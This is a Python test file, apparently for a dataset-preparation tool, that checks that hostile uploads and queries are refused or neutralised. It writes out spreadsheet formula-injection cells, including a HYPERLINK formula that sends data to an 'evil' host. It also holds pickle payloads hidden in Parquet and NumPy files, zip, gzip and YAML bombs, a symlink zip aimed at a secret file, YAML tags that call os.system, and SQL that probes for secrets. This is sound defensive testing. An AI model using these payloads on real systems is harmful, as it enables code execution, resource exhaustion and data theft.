"""Files of data that would run code, read other files or fill memory and disk; and queries that would."""

from __future__ import annotations

import gzip
import io
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import psutil
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from core import seals
from core.data.browsing import browse, database, sql
from core.data.browsing.cells import CELL_CHARACTERS
from core.data.browsing.export import export
from core.data.browsing.samples import sample_texts
from core.data.dataset import Prepared
from core.data.loading import holdout
from core.data.prepare import prepare
from core.data.reading.tables import bounded
from core.errors import DataError, SpecError, TunedeckError
from core.spec.data import DataSpec
from core.spec.run import from_yaml, parse_assignments
from tests.attack.cases import case
from tests.attack.pickled import Planted
from tests.attack.place import CANARY, SECRETS, TOM, Place
from tests.data.test_hostile import ROWS, zipped


def file(place: Place, name: str, content: bytes) -> DataSpec:
    path = place.root / "brought" / name
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(content)
    return DataSpec(source="file", path=str(path))


def refused(place: Place, spec: DataSpec, says: str, **changes: Any) -> None:
    (place.home / "datasets").mkdir(exist_ok=True)
    settings = place.settings(**changes)
    place.refused(lambda: prepare(spec, settings), says, local=True)


def opened(place: Place, spec: DataSpec) -> Prepared:
    """It is read, into the home's datasets and nowhere else."""
    with place.untouched(r"^home/datasets"):
        return prepare(spec, place.settings())


@case("a dataset with a script that loads it")
def _script(place: Place) -> None:
    mark = place.root / "ran"
    folder = place.root / "brought" / "set"
    folder.mkdir(parents=True)
    (folder / "set.py").write_text(f"open({str(mark)!r}, 'w')\n")
    refused(place, DataSpec(source="file", path=str(folder)), "no .*file|nothing")
    (folder / "train.csv").write_text(ROWS)
    assert opened(place, DataSpec(source="file", path=str(folder))).splits["train"].rows == 20
    assert not mark.exists()


@case("formulas in cells, as a spreadsheet gets them")
def _formulas(place: Place) -> None:
    cells = ["=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", '=HYPERLINK("http://evil/"&A1)']
    out = io.StringIO()
    import csv

    csv.writer(out).writerows([["text", "=label"], *([cell, "=a"] for cell in cells)])
    prepared = opened(place, file(place, "a.csv", out.getvalue().encode()))
    text = export(prepared, next(iter(prepared.splits)), "csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    starts = [cell for row in rows for cell in row if cell and cell.lstrip("\t\r\n ")[:1] in "=+@" and cell[0] != "'"]
    assert not starts, starts
    place.checked += 1


@case("a Parquet file with a pickle in its types")
def _pickled_type(place: Place) -> None:
    planted = Planted(place.root / "ran")
    metadata = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": planted.pickle()}
    schema = pa.schema([pa.field("text", pa.string(), metadata=metadata), pa.field("label", pa.string())])
    table = pa.Table.from_arrays([pa.array(["a", "b"]), pa.array(["x", "y"])], schema=schema)
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata({b"pandas": planted.pickle(), b"huggingface": b"[" * 50_000}), out)
    spec = file(place, "a.parquet", out.getvalue())
    with place.untouched(r"^home/datasets"):
        try:
            prepare(spec, place.settings())
        except TunedeckError as error:
            place.harmless(str(error), local=True)
    assert not planted.ran


def repeated(value: str, rows: int, **changes: Any) -> bytes:
    """A Parquet file whose rows all have one value, which it holds once."""
    out = io.BytesIO()
    text = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([value]))
    table = pa.table({"text": text, "label": pa.array(["a", "b"] * (rows // 2))})
    pq.write_table(table, out, compression="zstd", dictionary_pagesize_limit=2**30, store_schema=False, **changes)
    return out.getvalue()


@case("a Parquet file of a kilobyte whose rows share one long value")
def _repeated_value(place: Place) -> None:
    for changes in ({}, {"write_statistics": False}, {"row_group_size": 500}):
        content = repeated("many words " * 150_000, 1_500, **changes)
        assert len(content) < 10_000
        before = pa.default_memory_pool().max_memory()
        refused(place, file(place, "a.parquet", content), "unpacks to .* or more, over 200 times")
        assert pa.default_memory_pool().max_memory() - before < 2**28


@case("a Parquet file that repeats a long value as often as it may")
def _repeated_within_bounds(place: Place) -> None:
    """It is opened, and what a page shows of it stays small, by whatever link."""
    prepared = opened(place, file(place, "a.parquet", repeated("many words " * 150_000, 150)))
    name = next(iter(prepared.splits))
    assert sum(map(len, browse.page(prepared, name, 0, 1000)["text"])) <= 150 * CELL_CHARACTERS
    assert len(browse.row(prepared, name, 3)["text"]) <= browse.MOST_CHARACTERS
    texts, sampled = sample_texts(prepared, name, ["text"], 2000, 42)
    assert sampled and sum(len(row[0]) for row in texts) <= database.MOST_FETCHED + 2**27
    assert next(len(batch) for batch in bounded.batches(prepared.splits[name].path, 20_000)) < 50


@case("a Parquet file with a dictionary of a hundred megabytes")
def _large_dictionary(place: Place) -> None:
    content = repeated("x" * 100_000_000, 2)
    assert len(content) < 100_000
    refused(place, file(place, "a.parquet", content), "of different values in 'text' at once|over 200 times")


@case("a Parquet file of a plain text that unpacks to gigabytes")
def _plain_bomb(place: Place) -> None:
    out = io.BytesIO()
    table = pa.table({"text": ["x" * 100_000_000] * 4, "label": ["a", "b"] * 2})
    pq.write_table(table, out, compression="zstd", use_dictionary=False)
    refused(place, file(place, "a.parquet", out.getvalue()), "unpacks to")


@case("a Parquet file of a billion rows in a few bytes")
def _many_rows(place: Place) -> None:
    out = io.BytesIO()
    batch = pa.record_batch({"n": pa.array(np.zeros(1_000_000, np.int8))})
    with pq.ParquetWriter(out, batch.schema) as writer:
        for _ in range(101):
            writer.write_batch(batch)
    refused(place, file(place, "a.parquet", out.getvalue()), "101,000,000 rows; at most")


@case("files with tens of thousands of columns")
def _wide_files(place: Place) -> None:
    out = io.BytesIO()
    pq.write_table(pa.table({f"c{i}": [i] for i in range(30_000)}), out)
    refused(place, file(place, "a.parquet", out.getvalue()), "30,000 columns; at most")
    lines = "\n".join(json.dumps({f"k{10 * i + j}": j for j in range(10)}) for i in range(20_000))
    refused(place, file(place, "a.jsonl", lines.encode()), "different keys or more; at most")
    header = ",".join(f"c{i}" for i in range(20_000))
    refused(place, file(place, "a.csv", f"{header}\n{header}\n".encode()), "20,000 columns; at most")
    deep = '[{"a":' * 100_000
    refused(place, file(place, "b.json", deep.encode()), "nested too deeply")


@case("a gzip that unpacks to gigabytes")
def _gzip_bomb(place: Place) -> None:
    content = gzip.compress(b"text,label\n" + b"a" * 60_000_000)
    refused(place, file(place, "a.csv.gz", content), "unpack|large|more than", max_unpacked_bytes=10_000_000)


@case("a zip that unpacks to gigabytes")
def _zip_bomb(place: Place) -> None:
    content = zipped(**{"a.csv": b"text,label\n" + b"a" * 60_000_000})
    refused(place, file(place, "a.zip", content), "unpack|large|more than", max_unpacked_bytes=10_000_000)


@case("a zip with a link to a file of the server")
def _zip_link(place: Place) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        member = zipfile.ZipInfo("train.csv")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, str(place.canary / "secret.csv"))
    spec = file(place, "a.zip", out.getvalue())
    with place.untouched(r"^home/datasets"):
        try:
            prepared = prepare(spec, place.settings())
        except TunedeckError as error:
            place.harmless(str(error), local=True)
        else:
            assert CANARY not in export(prepared, "train", "csv").read_text()


@case("a zip of a hundred thousand files")
def _many_files(place: Place) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}.csv", "")
    refused(place, file(place, "a.zip", out.getvalue()), "files|empty|most")


@case("a number of thousands of digits in JSON")
def _huge_number(place: Place) -> None:
    content = b'{"text": "a", "label": 1' + b"0" * 5000 + b"}\n" + b'{"text": "b", "label": 2}\n'
    spec = file(place, "a.jsonl", content)
    with place.untouched(r"^home/datasets"):
        try:
            prepare(spec, place.settings())
        except TunedeckError as error:
            place.harmless(str(error), local=True)


@case("a file that is a pipe, and waits for ever")
def _pipe(place: Place) -> None:
    folder = place.root / "brought"
    folder.mkdir()
    os.mkfifo(folder / "a.csv")
    (place.home / "datasets").mkdir()
    with pytest.raises(TunedeckError) as caught:
        prepare(DataSpec(source="file", path=str(folder / "a.csv")), place.settings())
    place.harmless(str(caught.value), local=True)
    (folder / "a.csv").unlink()
    place.checked += 1


@case("keys of a final test with a pickle, planted among the datasets")
def _keys(place: Place) -> None:
    """They are not opened, but made anew from the texts."""
    prepared, planted = prepare(DataSpec(), place.settings()), Planted(place.root / "ran")
    good = holdout.keys_of(prepared, "test", ("text",)).tolist()
    (path,) = prepared.folder.glob("keys-*.npy")
    with seals.sealed_file(path) as partial, partial.open("wb") as out:
        np.save(out, np.array([planted], dtype=object), allow_pickle=True)
    assert holdout.keys_of(prepared, "test", ("text",)).tolist() == good
    assert not planted.ran
    place.checked += 1


@case("a spec in YAML that makes objects of Python")
def _yaml_object(place: Place) -> None:
    mark = place.root / "ran"
    for text in (
        f"!!python/object/apply:os.mkdir ['{mark}']",
        f"data: !!python/object/new:os.mkdir ['{mark}']",
        "engine: !!python/name:os.system",
        "data: !!python/module:subprocess",
        "!!binary x: 1",
    ):
        place.refused(lambda: from_yaml(text), "not YAML|mapping|not one of|no such", error=SpecError)  # noqa: B023
        place.refused(lambda: parse_assignments([f"training.seed={text}"]), "not YAML|form", error=SpecError)  # noqa: B023
    assert not mark.exists()


@case("a spec in YAML of a few lines that is gigabytes")
def _yaml_bomb(place: Place) -> None:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
    place.refused(lambda: from_yaml("\n".join(lines)), "aliases", error=SpecError)
    place.refused(lambda: from_yaml("[" * 50_000), "not YAML", error=SpecError)
    place.refused(lambda: from_yaml("a" * 300_000), "at most", error=SpecError)


@case("a metric, an engine or a task that is a file or of the Hub")
def _unknown_kinds(place: Place) -> None:
    for text in (
        "evaluation: {metrics: [evil/metric]}", f"evaluation: {{metrics: ['{place.canary}/metric.py']}}",
        "engine: ../evil", "task: 'text-classification; import os'", "data: {source: 's3'}",
        "data: {steps: [{step: exec, code: x}]}", "training: {lr_scheduler_type: __import__}",
        "training: {optim: evil}", "model: {trust_remote_code: true}", "data: {trust_remote_code: true}",
    ):  # fmt: skip
        place.refused(lambda: from_yaml(text), "not one of|no such field", error=SpecError, local=True)  # noqa: B023


SQL = {
    "a query that never ends": (
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT sum(n) FROM t",
        "ended after",
    ),
    "a query that takes all memory": (
        "SELECT repeat('x', 3000000000) FROM range(10)", "memory|too large|out of range|ended after",
    ),
    "a query for the server's settings": (
        "SELECT value FROM system.main.duckdb_settings() UNION ALL SELECT current_setting('allowed_paths')::VARCHAR",
        "closed here",
    ),
    "a query for settings by another name": ("SELECT setting FROM pg_catalog.pg_settings", "closed here"),
    "a query put together from pieces": ("SELECT * FROM query('FROM duckdb' || '_settings()')", "closed here"),
    "a query for the server's secrets": ("SELECT * FROM duckdb_secrets()", "closed here"),
    "a query for where tables lie": ("SELECT path FROM duckdb_databases()", "closed here"),
    "a query for the text of views": ("SELECT sql FROM duckdb_views()", "closed here"),
    "a query for the server's files by a pattern": ("FROM glob('/proc/self/*')", "closed here"),
    "a query that writes by the back door": ("FROM (COPY train TO '/tmp/evil.csv')", "syntax|one SELECT|closed"),
}  # fmt: skip


def _sql(query: str, says: str | None) -> Any:
    def attack(place: Place) -> None:
        prepared = prepare(DataSpec(), place.settings())
        sql.run(prepared, "SELECT 1")
        with place.untouched(r"^home/datasets/.*/sql/\w+\.parquet$"):
            try:
                answer = sql.run(prepared, query, most_seconds=2.0)
            except DataError as error:
                assert says is not None, str(error)
                import re

                assert re.search(says, str(error)), str(error)
                place.harmless(str(error))
            else:
                assert says is None, "it was answered"
                text = sql.page(answer, 0, 1000).to_csv()
                assert not [s for s in (*SECRETS.values(), str(place.root), str(Path.home()) + "/") if s in text], text

    return attack


for _cause, (_query, _says) in SQL.items():
    case(_cause)(_sql(_query, _says))


@case("SQL whose answer is gigabytes, or values that nothing can hold")
def _sql_flood(place: Place) -> None:
    prepared = prepare(DataSpec(), place.settings())
    before = psutil.Process().memory_info().rss
    with place.untouched(r"^home/datasets/[^/]*/sql(/[0-9a-f]+\.parquet)?$"):
        for query in (
            "SELECT repeat('ab', 50000) FROM range(9500)",
            "SELECT range(3000) FROM range(30000)",
            "SELECT repeat('ab', 25000000), DATE '200000-01-01' FROM range(2)",
            "SELECT 'infinity'::TIMESTAMP, INTERVAL 1 MONTH, [DATE '200000-01-01'], 1::HUGEINT",
        ):
            answer = sql.run(prepared, query, settings=place.settings("team", TOM))
            assert answer.rows and len(sql.page(answer, 0, 100))
            assert answer.path.stat().st_size < sql.MOST_BYTES
        for query in ("SELECT repeat('ab', 90000000)", "SELECT repeat('ab', 90000000) FROM range(100)"):
            with pytest.raises(DataError, match=r"one row|more memory"):
                sql.run(prepared, query)
    assert psutil.Process().memory_info().rss - before < 500 * 1024**2
